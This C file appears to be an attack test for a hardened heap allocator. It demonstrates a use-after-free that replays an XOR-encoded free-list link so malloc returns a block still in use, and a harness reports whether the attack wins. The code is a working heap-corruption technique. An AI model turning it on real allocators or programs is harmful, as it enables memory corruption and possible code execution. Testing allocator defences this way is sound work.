/* replay_pow2: a free-list link read from one free block and written into
 * another ("replayed"), for a power-of-two size class (64 bytes).
 *
 * Bug modelled: a use-after-free read of one freed block and use-after-free
 * writes of its first word into another freed block and into a live block
 * (no knowledge of the keys).
 *
 * Why it works: a link is rotl(next ^ key0 ^ addr, key1); the same stored
 * value at another address decodes to next ^ A ^ B (the key cancels). When
 * the attacker knows next (frees are LIFO) and picks A, X, B so that
 * X ^ A ^ B is the address L of one of its live blocks, the replayed link is
 * a valid block boundary of the page and passes every check.
 *
 * Steps:
 *  1. Allocate SIZE-byte blocks, keep those of the fullest page.
 *  2. Find distinct A, X, B, L there with L == X ^ A ^ B.
 *  3. free(B), free(X), free(A): local_free is A -> X -> B.
 *  4. E = *A (UAF read); *B = E (UAF write, now B -> L); *L = E (L is live;
 *     its first word now decodes to B, so popping L passes the check).
 *  5. malloc(SIZE) until a live block comes back.
 * WIN: malloc hands out L (or, default build, X twice) while it is live.
 * Defence that should stop it: links that depend on more than an XOR of
 * addresses (e.g. a keyed hash / MAC of (addr, next)), or a per-block
 * free bit checked on pop. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

#define SIZE 64
#define COUNT 512
#define PAGE_SHIFT 16 /* 64 KiB small pages */

static uintptr_t blk[COUNT];
static int is_live[COUNT];

static int find(uintptr_t* list, int n, uintptr_t a) {
  for (int i = 0; i < n; i++)
    if (list[i] == a) return i;
  return -1;
}

int main(void) {
  start(10);
  for (int i = 0; i < COUNT; i++) {
    blk[i] = (uintptr_t)hide(malloc(SIZE));
    memset((void*)blk[i], 0x5a, SIZE);
    is_live[i] = 1;
  }
  /* the page holding most of them */
  uintptr_t best_page = 0;
  int best_n = 0;
  for (int i = 0; i < COUNT; i++) {
    int n = 0;
    for (int j = 0; j < COUNT; j++) n += (blk[j] >> PAGE_SHIFT) == (blk[i] >> PAGE_SHIFT);
    if (n > best_n) { best_n = n; best_page = blk[i] >> PAGE_SHIFT; }
  }
  uintptr_t page[COUNT];
  int pn = 0;
  for (int i = 0; i < COUNT; i++)
    if ((blk[i] >> PAGE_SHIFT) == best_page) page[pn++] = blk[i];

  int ia = -1, ix = -1, ib = -1, il = -1;
  for (int a = 0; a < pn && il < 0; a++)
    for (int x = 0; x < pn && il < 0; x++)
      for (int b = 0; b < pn && il < 0; b++) {
        if (a == x || a == b || x == b) continue;
        int l = find(page, pn, page[a] ^ page[x] ^ page[b]);
        if (l >= 0 && l != a && l != x && l != b) { ia = a; ix = x; ib = b; il = l; }
      }
  if (il < 0) lost("no A, X, B, L with L = X ^ A ^ B among %d blocks of one page", pn);
  uintptr_t A = page[ia], X = page[ix], B = page[ib], L = page[il];
  note("A=%p X=%p B=%p, live L=%p", (void*)A, (void*)X, (void*)B, (void*)L);

  free(hide((void*)B));
  free(hide((void*)X));
  free(hide((void*)A));
  is_live[find(blk, COUNT, A)] = is_live[find(blk, COUNT, X)] = is_live[find(blk, COUNT, B)] = 0;

  uintptr_t e = peek((void*)A); /* use-after-free read */
  poke((void*)B, e);             /* use-after-free write */
  poke((void*)L, e);             /* the program's own live block */

  static uintptr_t got[8192];
  for (int k = 0; k < 8192; k++) {
    uintptr_t r = (uintptr_t)hide(malloc(SIZE));
    int i = find(blk, COUNT, r);
    if (i >= 0 && is_live[i]) win("malloc(%d) returned %p, which is still allocated", SIZE, (void*)r);
    if (find(got, k, r) >= 0) win("malloc(%d) returned %p twice", SIZE, (void*)r);
    if (i >= 0) is_live[i] = 1;
    got[k] = r;
  }
  lost("8192 further allocations handed out no live block");
}
